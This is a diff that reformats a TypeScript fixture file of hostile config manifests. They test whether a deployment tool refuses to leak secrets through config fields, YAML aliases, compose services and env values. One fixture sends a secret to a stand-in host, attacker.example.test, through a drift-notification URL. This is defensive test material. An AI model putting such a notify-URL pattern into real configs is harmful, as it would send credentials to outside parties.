@@ -88,7 +88,9 @@ export function hostileSecrets(platform: string): readonly HostileManifest[] {
     },
     {
       intent: 'guess a secret as a private name',
-      files: compose(`private: [${guesses.secret}], env: { ${guesses.secret.replaceAll('-', '_')}: ${guesses.secret} }`),
+      files: compose(
+        `private: [${guesses.secret}], env: { ${guesses.secret.replaceAll('-', '_')}: ${guesses.secret} }`,
+      ),
       ends: 'planned',
       shows: guesses.secret,
     },
@@ -157,34 +159,120 @@ export function hostileSecrets(platform: string): readonly HostileManifest[] {
       files: postgres(`backups: { a: { schedule: "0 3 * * *", destinationId: "${db}", prefix: a/ } }`),
       ends: 'misplaced-secret',
     },
-    { intent: 'have a secret read as a part of an image', files: postgres(`dockerImage: "postgres:${db}"`).replace('dockerImage: "postgres:17", ', ''), ends: 'misplaced-secret' },
+    {
+      intent: 'have a secret read as a part of an image',
+      files: postgres(`dockerImage: "postgres:${db}"`).replace('dockerImage: "postgres:17", ', ''),
+      ends: 'misplaced-secret',
+    },
 
     // Secrets in settings and in expressions.
     { intent: 'include a secret', files: `include: ["${db}"]\n${production('')}`, ends: 'file-unreadable' },
-    { intent: 'move from a secret', files: `moved: [{ from: "${db}", to: production }]\n${production('')}`, ends: 'bad-expression' },
-    { intent: 'have a secret for a platform', head: head(`{ url: "https://${db}" }`), files: describing('x'), ends: 'wrong-type' },
-    { intent: 'have a secret for a project', head: `trueup: 1\nplatform: { url: "${platform}" }\nproject: "${db}"\n`, files: describing('x'), ends: 'not-found' },
-    { intent: 'have a secret for a file of secrets', head: `${own}secrets: [{ file: "${db}" }]\n`, files: describing('${secret:OTHER}'), ends: 'file-unreadable' },
-    { intent: 'have a secret for a variable, and print that', files: `variables: { a: { default: "${db}" } }\n${describing('${var:a}')}`, ends: 'bad-expression' },
-    { intent: 'ignore drift because of a secret', files: `drift: { ignore: [{ address: a, because: "${db}" }] }\n${production('')}`, ends: 'planned' },
-    { intent: 'send a secret as an address', files: `drift: { notify: [{ url: "https://attacker.example.test/${db}", as: json }] }\n${production('')}`, ends: 'wrong-type' },
+    {
+      intent: 'move from a secret',
+      files: `moved: [{ from: "${db}", to: production }]\n${production('')}`,
+      ends: 'bad-expression',
+    },
+    {
+      intent: 'have a secret for a platform',
+      head: head(`{ url: "https://${db}" }`),
+      files: describing('x'),
+      ends: 'wrong-type',
+    },
+    {
+      intent: 'have a secret for a project',
+      head: `trueup: 1\nplatform: { url: "${platform}" }\nproject: "${db}"\n`,
+      files: describing('x'),
+      ends: 'not-found',
+    },
+    {
+      intent: 'have a secret for a file of secrets',
+      head: `${own}secrets: [{ file: "${db}" }]\n`,
+      files: describing('${secret:OTHER}'),
+      ends: 'file-unreadable',
+    },
+    {
+      intent: 'have a secret for a variable, and print that',
+      files: `variables: { a: { default: "${db}" } }\n${describing('${var:a}')}`,
+      ends: 'bad-expression',
+    },
+    {
+      intent: 'ignore drift because of a secret',
+      files: `drift: { ignore: [{ address: a, because: "${db}" }] }\n${production('')}`,
+      ends: 'planned',
+    },
+    {
+      intent: 'send a secret as an address',
+      files: `drift: { notify: [{ url: "https://attacker.example.test/${db}", as: json }] }\n${production('')}`,
+      ends: 'wrong-type',
+    },
     { intent: 'name an output by a secret', files: `outputs: { "${db}": a }\n${production('')}`, ends: 'wrong-type' },
     { intent: 'read a file of the name of a secret', files: describing(`\${file:${db}}`), ends: 'bad-expression' },
     { intent: 'read a secret of the name of a secret', files: describing(`\${secret:${db}}`), ends: 'bad-expression' },
-    { intent: 'accept drift because of a secret', files: { 'trueup.yaml': production(''), 'accepted.yaml': `trueup-accepted: 1\naccepted:\n  - { address: "${db}", until: 2099-01-01, because: "${db}", by: "${db}" }\n` }, ends: 'wrong-type' },
+    {
+      intent: 'accept drift because of a secret',
+      files: {
+        'trueup.yaml': production(''),
+        'accepted.yaml': `trueup-accepted: 1\naccepted:\n  - { address: "${db}", until: 2099-01-01, because: "${db}", by: "${db}" }\n`,
+      },
+      ends: 'wrong-type',
+    },
 
     // YAML.
-    { intent: 'use a secret as a key by an alias', files: `x-a: &a "${db}"\nenvironments: { production: { env: { ? *a : b } } }\n`, ends: 'bad-expression' },
-    { intent: 'merge a secret', files: `x-a: &a "${db}"\nenvironments: { production: { env: { <<: *a } } }\n`, ends: 'yaml-syntax' },
-    { intent: 'make a key of a secret too long to quote', files: production(`env: { "${db}${'x'.repeat(100_000)}": b }`), ends: 'bad-expression' },
+    {
+      intent: 'use a secret as a key by an alias',
+      files: `x-a: &a "${db}"\nenvironments: { production: { env: { ? *a : b } } }\n`,
+      ends: 'bad-expression',
+    },
+    {
+      intent: 'merge a secret',
+      files: `x-a: &a "${db}"\nenvironments: { production: { env: { <<: *a } } }\n`,
+      ends: 'yaml-syntax',
+    },
+    {
+      intent: 'make a key of a secret too long to quote',
+      files: production(`env: { "${db}${'x'.repeat(100_000)}": b }`),
+      ends: 'bad-expression',
+    },
     { intent: 'write a secret ten thousand times', files: describing(db.repeat(10_000)), ends: 'misplaced-secret' },
-    { intent: 'have a secret read as a service of a compose file', files: composing(`services: { "${db}": { image: nginx } }`, routed), ends: 'inconsistent' },
-    { intent: 'have a secret read as an alias in a compose file', files: composing(`services: { web: { image: *${db} } }`, routed), ends: 'inconsistent' },
-    { intent: 'have a secret read as a tag in a compose file', files: composing(`services: { web: { image: !${db} x } }`, routed), ends: 'inconsistent' },
-    { intent: 'have a secret read as a port in a compose file', files: composing(`services: { web: { image: nginx, ports: ["${db}:80"] } }`, routed), ends: 'planned' },
-    { intent: 'break a compose file behind a secret', files: composing(`services: { web: { image: "nginx${db} } }`, routed), ends: 'inconsistent' },
-    { intent: 'have a secret read as two texts', files: composing(`services: { web: { image: nginx, command: [a, ${db}, b] } }`, routed), ends: 'planned' },
-    { intent: 'write a line of an env behind a secret', files: compose(`env: "A=${db}\\nno line ${db}\\n"`), ends: 'env-value' },
-    { intent: 'stand for a secret oneself', files: compose(`env: { A: "(sensitive)", B: "x(sensitive)${db}" }`), ends: 'planned' },
+    {
+      intent: 'have a secret read as a service of a compose file',
+      files: composing(`services: { "${db}": { image: nginx } }`, routed),
+      ends: 'inconsistent',
+    },
+    {
+      intent: 'have a secret read as an alias in a compose file',
+      files: composing(`services: { web: { image: *${db} } }`, routed),
+      ends: 'inconsistent',
+    },
+    {
+      intent: 'have a secret read as a tag in a compose file',
+      files: composing(`services: { web: { image: !${db} x } }`, routed),
+      ends: 'inconsistent',
+    },
+    {
+      intent: 'have a secret read as a port in a compose file',
+      files: composing(`services: { web: { image: nginx, ports: ["${db}:80"] } }`, routed),
+      ends: 'planned',
+    },
+    {
+      intent: 'break a compose file behind a secret',
+      files: composing(`services: { web: { image: "nginx${db} } }`, routed),
+      ends: 'inconsistent',
+    },
+    {
+      intent: 'have a secret read as two texts',
+      files: composing(`services: { web: { image: nginx, command: [a, ${db}, b] } }`, routed),
+      ends: 'planned',
+    },
+    {
+      intent: 'write a line of an env behind a secret',
+      files: compose(`env: "A=${db}\\nno line ${db}\\n"`),
+      ends: 'env-value',
+    },
+    {
+      intent: 'stand for a secret oneself',
+      files: compose(`env: { A: "(sensitive)", B: "x(sensitive)${db}" }`),
+      ends: 'planned',
+    },
   ];
 }
